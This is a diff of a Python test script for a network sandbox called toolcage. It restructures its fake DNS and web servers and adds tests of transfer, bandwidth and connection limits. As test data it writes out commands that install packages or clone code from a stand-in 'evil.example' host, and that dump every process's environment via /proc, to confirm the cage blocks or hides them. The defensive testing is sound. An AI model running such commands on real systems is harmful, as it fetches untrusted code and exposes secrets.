@@ -1,207 +1,19 @@
 #!/usr/bin/env python3
 # SPDX-License-Identifier: Apache-2.0
 # Copyright The toolcage authors
-"""network = [...]: what the entries name is reached, by programs that know a proxy and by those that do not, and nothing else is.
-
-The script stands in a network of its own, where addresses of the public kind are this machine's: servers listen there, and a name
-server of the test's own answers as it is told."""
-import base64
+"""network = [...]: what the entries name is reached, by programs that know a proxy and by those that do not, and nothing else is."""
 import contextlib
 import functools
-import glob
-import gzip  # noqa: F401  tarfile would look for it when an ordinary user cannot find it any more
-import hashlib
-import http.server
-import io
 import json
 import os
 import shutil
 import socket
 import socketserver
-import ssl
 import subprocess
-import sys
-import tarfile
 import threading
 import time
-import zipfile
 
-INSIDE = "TOOLCAGE_TEST_NETWORK"
-if not os.environ.get(INSIDE):
-    os.environ[INSIDE] = "1"
-    own = [] if os.geteuid() == 0 else ["--user", "--map-current-user", "--keep-caps"]
-    os.execvp("unshare", ["unshare", *own, "--net", "--mount", "--propagation", "private", sys.executable, *sys.argv])
-
-API, EVIL, PRIVATE, API6 = "93.184.216.34", "93.184.216.99", "10.1.2.3", "2606:2800:21f:cb07::34"
-NAMES = {"api.example.com": [API], "files.example.com": [API], "evil.example": [EVIL], "db.example.com": [PRIVATE], "mixed.example.com": [API, PRIVATE],
-         "loop.example.com": ["127.0.0.1"], "meta.example.com": ["169.254.169.254"], "six.example.com": [API6]}
-spoken = []  # requests that came to the servers, with their headers
-asked = []  # names that came to the name server outside
-
-
-def lines(*commands):
-    for command in commands:
-        subprocess.run(command.split(), check=True)
-
-
-def make_network():
-    lines("ip link set lo up", *(f"ip addr add {a}/32 dev lo" for a in (API, EVIL, PRIVATE)), f"ip addr add {API6}/128 dev lo nodad")
-    where = f"/run/toolcage-test-{os.getpid()}" if os.geteuid() == 0 else f"/tmp/toolcage-test-{os.getpid()}"
-    os.makedirs(where)
-    lines(f"mount -t tmpfs tmpfs {where}")
-    for name, text in (("resolv.conf", "nameserver 127.0.0.1\n"), ("hosts", f"127.0.0.1 localhost\n{API} hosted.example.com\n")):
-        with open(f"{where}/{name}", "w", encoding="ascii") as file:
-            file.write(text)
-        lines(f"mount --bind {where}/{name} {os.path.realpath('/etc/' + name)}")
-    return where
-
-
-class Resolver(socketserver.BaseRequestHandler):
-    """A and AAAA of NAMES; anything else does not exist."""
-
-    def handle(self):
-        query, sock = self.request
-        at, labels = 12, []
-        while query[at]:
-            labels.append(query[at + 1:at + 1 + query[at]].decode("latin-1"))
-            at += 1 + query[at]
-        kind, question = query[at + 1:at + 3], query[12:at + 5]
-        name = ".".join(labels).lower()
-        asked.append(name)
-        family = {b"\0\1": socket.AF_INET, b"\0\x1c": socket.AF_INET6}.get(kind)
-        answers = [socket.inet_pton(family, a) for a in NAMES.get(name, []) if family and (":" in a) == (family == socket.AF_INET6)]
-        code = 0 if name in NAMES else 3
-        records = b"".join(b"\xc0\x0c" + kind + b"\0\1\0\0\0\0" + len(a).to_bytes(2, "big") + a for a in answers)
-        head = query[:2] + bytes([0x81, 0x80 | code]) + b"\0\1" + len(answers).to_bytes(2, "big") + b"\0\0\0\0"
-        sock.sendto(head + question + records, self.client_address)
-
-
-class Web(http.server.BaseHTTPRequestHandler):
-    protocol_version = "HTTP/1.1"
-
-    def answer(self):
-        body = self.rfile.read(int(self.headers.get("Content-Length", 0)))
-        spoken.append((self.headers.get("Host"), self.path, dict(self.headers.items())))
-        if self.path == "/echo":
-            body = json.dumps(dict(self.headers.items())).encode()
-        if self.path == "/pieces":  # what was sent, a byte at a time
-            text = self.headers.get("Authorization", "").encode() + b" and more\n"
-            self.send_response(200)
-            self.send_header("Content-Length", str(len(text)))
-            self.send_header("X-Seen", self.headers.get("Authorization", ""))
-            self.end_headers()
-            for byte in text:
-                self.wfile.write(bytes([byte]))
-                self.wfile.flush()
-                time.sleep(0.002)
-            return
-        text = json.dumps({"host": self.headers.get("Host"), "path": self.path, "method": self.command, "body": len(body), **({"echo": body.decode()} if self.path == "/echo" else {})}).encode() + b"\n"
-        self.send_response(200)
-        self.send_header("Content-Length", str(len(text)))
-        self.end_headers()
-        self.wfile.write(text)
-
-    do_GET = do_POST = do_PUT = answer
-
-    def log_message(self, *_):
-        pass
-
-
-class Threaded(socketserver.ThreadingMixIn, http.server.HTTPServer):
-    daemon_threads = True
-    address_family = socket.AF_INET
-
-
-class Threaded6(Threaded):
-    address_family = socket.AF_INET6
-
-
-class Greeter(socketserver.BaseRequestHandler):
-    """Speaks first, as ssh and smtp do."""
-
-    def handle(self):
-        self.request.sendall(b"hello, who are you?\n")
-        self.request.sendall(self.request.recv(100).upper())
-
-
-heard = []
-
-
-class Listener(socketserver.BaseRequestHandler):
-    """Hears it to the end."""
-
-    def handle(self):
-        text = b""
-        try:
-            while more := self.request.recv(65536):
-                text += more
-            heard.append(text + b" in order")
-        except OSError:
-            heard.append(text + b" broken off")
-
-
-class Streams(socketserver.ThreadingTCPServer):
-    allow_reuse_address = daemon_threads = True
-
-
-def serve(server):
-    threading.Thread(target=server.serve_forever, daemon=True).start()
-
-
-BUNDLES = ["/etc/ssl/certs/ca-certificates.crt", "/etc/pki/ca-trust/extracted/pem/tls-ca-bundle.pem", "/etc/ssl/ca-bundle.pem"]
-BUNDLE = os.path.realpath(next(path for path in BUNDLES if os.path.exists(path)))
-
-
-def trust(where):
-    """The machine trusts the servers' certificate beside the usual ones."""
-    with open(BUNDLE, encoding="utf-8") as usual, open(f"{where}/cert.pem", encoding="ascii") as ours, open(f"{where}/bundle.pem", "w", encoding="utf-8") as file:
-        file.write(usual.read() + ours.read())
-    os.chmod(f"{where}/bundle.pem", 0o644)
-    lines(f"mount --bind {where}/bundle.pem {BUNDLE}")
-
-
-def make_stranger(where):
-    lines("openssl req -x509 -newkey ec -pkeyopt ec_paramgen_curve:prime256v1 -nodes -days 2 -subj /CN=stranger "
-          f"-addext subjectAltName=DNS:api.example.com -keyout {where}/stranger-key.pem -out {where}/stranger.pem")
-    context = ssl.SSLContext(ssl.PROTOCOL_TLS_SERVER)
-    context.load_cert_chain(f"{where}/stranger.pem", f"{where}/stranger-key.pem")
-    return context
-
-
-def make_certificate(where):
-    lines("openssl req -x509 -newkey ec -pkeyopt ec_paramgen_curve:prime256v1 -nodes -days 2 -subj /CN=toolcage-test "
-          f"-addext subjectAltName=DNS:api.example.com,DNS:evil.example,DNS:six.example.com,DNS:files.example.com -keyout {where}/key.pem -out {where}/cert.pem")
-    os.chmod(f"{where}/cert.pem", 0o644)
-    context = ssl.SSLContext(ssl.PROTOCOL_TLS_SERVER)
-    context.load_cert_chain(f"{where}/cert.pem", f"{where}/key.pem")
-    return context
-
-
-def serve_all(where):
-    serve(socketserver.ThreadingUDPServer(("127.0.0.1", 53), Resolver))
-    context = make_certificate(where)
-    for address in (API, EVIL, PRIVATE, API6, "127.0.0.1"):
-        kind = Threaded6 if ":" in address else Threaded
-        serve(kind((address, 80), Web))
-        tls = kind((address, 443), Web)
-        tls.socket = context.wrap_socket(tls.socket, server_side=True)
-        serve(tls)
-    trust(where)
-    stranger = Threaded((API, 444), Web)
-    stranger.socket = make_stranger(where).wrap_socket(stranger.socket, server_side=True)
-    serve(stranger)
-    serve(Streams((API, 2222), Greeter))
-    serve(Streams((API, 2223), Listener))
-    serve(Threaded(("127.0.0.1", 8080), Web))
-
-
-network = make_network()
-with open(os.devnull, "wb") as nothing:
-    saved = os.dup(2)
-    os.dup2(nothing.fileno(), 2)
-    serve_all(network)
-    os.dup2(saved, 2)
-    os.close(saved)
+from internet import API, BUNDLE, EVIL, NAMES, PRIVATE, Streams, asked, heard, network, serve, spoken  # noqa: E402
 
 from scene import PAUSE, TOOLCAGE, Skip, check, run, until  # noqa: E402  become() comes after what only root can do
 
@@ -433,6 +245,10 @@ def contained(s):
         if "oci" in answer.message and answer.status == "denied":
             raise Skip(f"skipped: {backend}: {answer.message}")
         check(answer.out.count('"path": "/v1"') == 2 and answer.out.endswith("403"), f"{backend}: requests within TLS", answer)
+        begin_upstream()
+        del connected[:]
+        answer = shell(s, f"curl -sS {CA} https://api.example.com/one && curl -sS --noproxy '*' {CA} https://api.example.com/two", more=f'backend = "{backend}"\nimage = "system"\ntimeout = "60s"\n{SITE}')
+        check('"path": "/one"' in answer.out and '"path": "/two"' in answer.out and connected == [f"{API}:443"] * 2, f"{backend}: by a site's proxy", (answer, connected))
 
 
 VALUE = "ghs_0123456789abcdefSECRET"
@@ -568,26 +384,31 @@ def kept_out(s):
 def behind(s):
     """A site behind a proxy: its own host names, and nothing of it in the cage."""
     s.works("net.allow")
-    serve(Streams((PRIVATE, 3128), Connect))
-    site = '[egress]\nupstream = "http://10.1.2.3:3128"\n'
+    begin_upstream()
     script = f"curl -sS {CA} https://api.example.com/one && curl -sS --noproxy '*' {CA} https://api.example.com/two; env | grep -cF 10.1.2.3; curl -sS -m 5 http://{PRIVATE}:3128/"
-    answer = shell(s, script, more=site)
+    answer = shell(s, script, more=SITE)
     check('"path": "/one"' in answer.out and '"path": "/two"' in answer.out and connected == [f"{API}:443"] * 2, "by the upstream, with the address that was looked at", (answer, connected))
     check('0\n{"error"' in answer.out.replace("\r", "") and f"{PRIVATE}:3128" in target(answer), "which the tool neither sees nor reaches", answer)
     check(answer.enforcement and "through http://10.1.2.3:3128" in answer.enforcement["net.allow"], "the mechanism names it", answer)
-    answer = shell(s, f"curl -sS {CA} https://files.example.com/three", '["files.example.com:443"]', more=site + 'names = "upstream"\n')
+    answer = shell(s, f"curl -sS {CA} https://files.example.com/three", '["files.example.com:443"]', more=SITE + 'names = "upstream"\n')
     check('"path": "/three"' in answer.out and connected[2:] == ["files.example.com:443"] and "not checked" in answer.enforcement["net.allow"], "by the name, and the result says what that is worth", (answer, connected))
     del connected[:]
     s.environ["PAIR"] = "someone:s3cret-of-the-site"
-    answer = shell(s, f"curl -sS {CA} https://api.example.com/four; env; cat /proc/*/environ | tr '\\0' '\\n'", more=site + 'credentials = "env:PAIR"\n')
+    answer = shell(s, f"curl -sS {CA} https://api.example.com/four; env; cat /proc/*/environ | tr '\\0' '\\n'", more=SITE + 'credentials = "env:PAIR"\n')
     del s.environ["PAIR"]
     check('"path": "/four"' in answer.out and heads[-1] == "Basic c29tZW9uZTpzM2NyZXQtb2YtdGhlLXNpdGU=", "with credentials, which the upstream alone hears", (answer, heads))
     check("s3cret" not in json.dumps(answer.json) and "PAIR=" not in answer.out, "and no part of the cage or the result holds", answer)
-    answer = shell(s, "true", more=site + 'credentials = "env:PAIR"\n')
+    answer = shell(s, "true", more=SITE + 'credentials = "env:PAIR"\n')
     check(answer.status == "denied" and "egress.credentials" in answer.message, "none: the call is refused", answer)
 
 
+SITE = '[egress]\nupstream = "http://10.1.2.3:3128"\n'
 connected, heads = [], []
+
+
+@functools.cache
+def begin_upstream():
+    serve(Streams((PRIVATE, 3128), Connect))
 
 
 class Connect(socketserver.StreamRequestHandler):
@@ -668,6 +489,10 @@ def beside(s):
     """Ways out that know no connection, a second hop, and what another cage listens on."""
     s.works("net.allow")
     asked.clear()
+    free = subprocess.run(["/usr/bin/python3", "-I", "-c", BESIDE], capture_output=True, text=True, timeout=60, check=False).stdout
+    ways = {line.split()[0] for line in free.splitlines() if " out: " in line}
+    check(ways >= {"datagram", "v6", *(("packet", "netlink") if os.geteuid() == 0 else ())} and [name for name in asked if name.endswith(".api.example.com")], "without a cage each of them gets out", (free, asked))
+    asked.clear()
     answer = s.python(BESIDE, network=ENTRIES, writable=())
     lines_ = answer.out.splitlines()
     check(answer.status == "ok" and len(lines_) > 30 and not [line for line in lines_ if "out:" in line], "questions, datagrams, packets, netlink, IPv6: nothing leaves", answer)
@@ -693,115 +518,35 @@ def beside(s):
     process.communicate(b"\n", 30)
 
 
-PROGRAMS = {
-    "wget": f"wget -q -O- --ca-certificate=/ca/cert.pem https://api.example.com/ && wget -q -O- --no-proxy --ca-certificate=/ca/cert.pem https://api.example.com/",
-    "python3": "python3 -c \"import urllib.request,ssl; c=ssl.create_default_context(cafile='/ca/cert.pem'); print(urllib.request.urlopen('https://api.example.com/',context=c).read().decode());"
-               " o=urllib.request.build_opener(urllib.request.ProxyHandler({}),urllib.request.HTTPSHandler(context=c)); print(o.open('https://api.example.com/').read().decode())\"",
-    "openssl": "printf 'GET / HTTP/1.0\\r\\nHost: api.example.com\\r\\n\\r\\n' | timeout 5 openssl s_client -quiet -CAfile /ca/cert.pem -servername api.example.com -connect api.example.com:443 2>/dev/null;"
-               " printf 'GET / HTTP/1.0\\r\\nHost: api.example.com\\r\\n\\r\\n' | timeout 5 openssl s_client -quiet -CAfile /ca/cert.pem -servername api.example.com -connect api.example.com:443 2>/dev/null",
-}
-
-
-def programs(s):
+def limited(s):
+    """How many connections, how much, how fast."""
     s.works("net.allow")
-    for name, script in PROGRAMS.items():
-        if not shutil.which(name, path="/usr/bin"):
-            raise Skip(f"skipped: {name} is not here")
-        answer = shell(s, script)
-        check(answer.out.count('"host": "api.example.com"') == 2, f"{name}: with and without the proxy", answer)
+    get = "curl -sS -o /dev/null -w '%{size_download} %{http_code}\\n' http://api.example.com/bytes/"
+    answer = shell(s, f"{get}20000; {get}20000; {get}20000; {get}1", more='transfer = "50KB"')
+    check(answer.out.startswith("20000 200\n20000 200\n") and "20000 200\n20000 200\n20000" not in answer.out, "transfer: what fits comes", answer)
+    check(answer.out.rstrip().endswith("403") and answer.json["usage"]["ingress_bytes"] + answer.json["usage"]["egress_bytes"] <= 50000, "and no byte more, then 403", answer)
+    check("api.example.com:80" in target(answer) and "transfer" in json.dumps(answer.json["denials"]), "with the denial that says so", answer)
+    check(answer.status == "ok", "a tool that ends well all the same has", answer)
+    answer = shell(s, f"{get}60000 && true", more='transfer = "50KB"')
+    check(answer.status == "limit" and answer.json["limit"] == "transfer", "one that fails failed by its limit", answer)
+    answer = shell(s, f"head -c 60000 /dev/zero > /tmp/z; curl -sS {CA} -H Expect: -T /tmp/z --noproxy '*' https://api.example.com/put", more='transfer = "50KB"')
+    check(answer.status == "limit" and answer.json["usage"]["egress_bytes"] <= 50000, "what is sent counts as well, within TLS too", answer)
+    answer = shell(s, "curl -sS http://api.example.com/bytes/40000; curl -sS -m 9 http://api.example.com/bytes/40000", REQUESTS_PLAIN, more='transfer = "50KB"')
+    check(answer.status == "limit" and answer.json["usage"]["ingress_bytes"] <= 50000, "and what is looked into", answer)
+    seconds = {}
+    for rate in ("100KB", "10MB"):
+        answer = shell(s, f"{get}200000; {get}100000 & {get}100000; wait", more=f'bandwidth = "{rate}"')
+        check(answer.status == "ok" and answer.out.count(" 200") == 3, f"bandwidth {rate}: all of it comes", answer)
+        seconds[rate] = answer.json["usage"]["wall_ms"] / 1000
+    check(3.5 <= seconds["100KB"] and seconds["10MB"] < seconds["100KB"], "400 kB at 100 kB a second, and at a hundred times that", seconds)
+    hold = "import socket; a = [socket.create_connection((\"api.example.com\", 2222)) for _ in range(4)]; print([c.recv(9) for c in a])"
+    answer = s.python(hold, network=ENTRIES, writable=(), more="connections = 3")
+    check(answer.status == "failed" and "connections" in json.dumps(answer.json["denials"]), "connections: one more than may be", answer)
+    answer = s.python(hold, network=ENTRIES, writable=(), more="connections = 4")
+    check(answer.status == "ok", "as many as may be", answer)
 
 
-def wheel(path):
-    """The least that pip installs."""
-    with zipfile.ZipFile(path, "w") as file:
-        file.writestr("tiny.py", "print('tiny is here')\n")
-        file.writestr("tiny-1.0.dist-info/METADATA", "Metadata-Version: 2.1\nName: tiny\nVersion: 1.0\n")
-        file.writestr("tiny-1.0.dist-info/WHEEL", "Wheel-Version: 1.0\nGenerator: test\nRoot-Is-Purelib: true\nTag: py3-none-any\n")
-        file.writestr("tiny-1.0.dist-info/RECORD", "")
-
-
-def tarball(path):
-    """The least that npm installs."""
-    with tarfile.open(path, "w:gz") as file:
-        for name, text in (("package.json", '{"name": "tiny", "version": "1.0.0"}'), ("index.js", "console.log('tiny is here')\n")):
-            info = tarfile.TarInfo("package/" + name)
-            info.size = len(text)
-            file.addfile(info, io.BytesIO(text.encode()))
-
-
-def stock(root):
-    """What a package index and a git server over plain HTTP have to say."""
-    for name in ("simple/tiny", "npm", "work"):
-        os.makedirs(f"{root}/{name}")
-    wheel(f"{root}/simple/tiny/tiny-1.0-py3-none-any.whl")
-    with open(f"{root}/simple/tiny/index.html", "w", encoding="ascii") as file:
-        file.write('<a href="tiny-1.0-py3-none-any.whl">tiny-1.0-py3-none-any.whl</a>\n')
-    tarball(f"{root}/npm/tiny.tgz")
-    with open(f"{root}/npm/tiny.tgz", "rb") as file:
-        digest = base64.b64encode(hashlib.sha512(file.read()).digest()).decode()
-    version = {"name": "tiny", "version": "1.0.0", "dist": {"tarball": "http://files.example.com:8088/npm/tiny.tgz", "integrity": "sha512-" + digest}}
-    with open(f"{root}/npm/tiny", "w", encoding="ascii") as file:
-        json.dump({"name": "tiny", "dist-tags": {"latest": "1.0.0"}, "versions": {"1.0.0": version}}, file)
-    if shutil.which("git"):
-        with open(f"{root}/work/said", "w", encoding="ascii") as file:
-            file.write("cloned\n")
-        who = ["-c", "user.name=t", "-c", "user.email=t@example.com", "-c", "safe.directory=*"]
-        for words in (["init", "-q"], ["add", "said"], ["commit", "-qm", "said"], ["clone", "-q", "--bare", ".", "../repo.git"]):
-            subprocess.run(["git", *who, *words], cwd=f"{root}/work", check=True, capture_output=True)
-        subprocess.run(["git", *who, "update-server-info"], cwd=f"{root}/repo.git", check=True)
-
-    class Files(http.server.SimpleHTTPRequestHandler):
-        def log_message(self, *_):
-            pass
-
-    serve(Threaded((API, 8088), functools.partial(Files, directory=root)))
-
-
-JAVA = """
-import java.net.*; import java.net.http.*;
-public class A { public static void main(String[] a) throws Exception {
-  System.out.println(HttpClient.newHttpClient().send(HttpRequest.newBuilder(URI.create(a[0])).build(), HttpResponse.BodyHandlers.ofString()).body());
-} }
-"""
-PLAIN = "env -u http_proxy -u https_proxy -u HTTP_PROXY -u HTTPS_PROXY -u all_proxy -u ALL_PROXY"
-FETCH = "fetch(process.argv[1]).then(r => r.text()).then(console.log, e => { console.log(e.cause && e.cause.code); process.exit(9) })"
-INSTALL = "pip3 install -q --no-cache-dir --disable-pip-version-check --index-url http://files.example.com:8088/simple/ --trusted-host files.example.com --target"
-NPM = "npm install --silent --no-audit --no-fund --cache /tmp/cache --registry http://files.example.com:8088/npm/ --prefix"
-# What it is to say, with the proxy's variables and without, and what it is to fail with on another host.
-WORKERS = {
-    "git": (f"git clone -q http://files.example.com:8088/repo.git /tmp/a && cat /tmp/a/said; {PLAIN} git clone -q http://files.example.com:8088/repo.git /tmp/b && cat /tmp/b/said", "cloned",
-            "git clone -q http://evil.example/repo.git /tmp/c"),
-    "pip3": (f"{INSTALL} /tmp/a tiny && python3 /tmp/a/tiny.py; {PLAIN} {INSTALL} /tmp/b tiny && python3 /tmp/b/tiny.py", "tiny is here",
-             "pip3 install -q --no-cache-dir --retries 0 --disable-pip-version-check --index-url http://evil.example/simple/ --trusted-host evil.example --target /tmp/c tiny"),
-    "npm": (f"{NPM} /tmp/a tiny; node /tmp/a/node_modules/tiny; {PLAIN} {NPM} /tmp/b tiny; node /tmp/b/node_modules/tiny", "tiny is here",
-            "npm install --silent --fetch-retries 0 --cache /tmp/cache --registry http://evil.example/ --prefix /tmp/c tiny"),
-    "node": (f"node -e '{FETCH}' http://api.example.com/; {PLAIN} node -e '{FETCH}' http://api.example.com/", '"host": "api.example.com"', f"node -e '{FETCH}' http://evil.example/"),
-    "java": (f"cat > /tmp/A.java <<'END'\n{JAVA}END\njava -Xmx128m /tmp/A.java http://api.example.com/ && {PLAIN} java -Xmx128m /tmp/A.java http://api.example.com/", '"host": "api.example.com"',
-             f"cat > /tmp/A.java <<'END'\n{JAVA}END\njava -Xmx128m /tmp/A.java http://evil.example/"),
-}
-
-
-def work(s, script):
-    """Debian's Java has its settings beside what a cage shows of /etc."""
-    return s.shell(script, network='["files.example.com:8088", "api.example.com:80"]', readable=glob.glob("/etc/java-*"), writable=(), more='timeout = "60s"',
-                   memory='{ max = "2GiB", by = "any" }')
-
-
-def workers(s):
-    """Programs that people's tools are made of."""
-    s.works("net.allow")
-    stock(f"{network}/www")
-    lacking = []
-    for name, (script, said, other) in WORKERS.items():
-        if not shutil.which(name, path="/usr/bin"):
-            lacking.append(name)
-            continue
-        answer = work(s, script)
-        check(answer.out.count(said) == 2, f"{name}: with the proxy's variables and without", answer)
-        answer = work(s, other)
-        check(answer.status == "failed" and {"evil.example:80", "evil.example"} & target(answer), f"{name}: another host, with its denial", answer)
-    if lacking:
-        raise Skip(f"skipped: {', '.join(lacking)}: no such program is here")
+REQUESTS_PLAIN = '[{ host = "api.example.com", port = 80, methods = ["GET"] }]'
 
 
 def ends(s):
@@ -834,4 +579,4 @@ def gone(pids):
     return until(lambda: not any(os.path.exists(f"/proc/{pid}") for pid in pids), 5)
 
 
-run(named_hosts, learned, last_words, everything_else, inside, other_hosts, killed, any_public, patterns, beside, behind, inspected, trusted, secrets, masked, kept_out, contained, programs, workers, ends)
+run(named_hosts, learned, last_words, everything_else, inside, other_hosts, killed, any_public, patterns, beside, behind, inspected, trusted, secrets, masked, kept_out, contained, limited, ends)
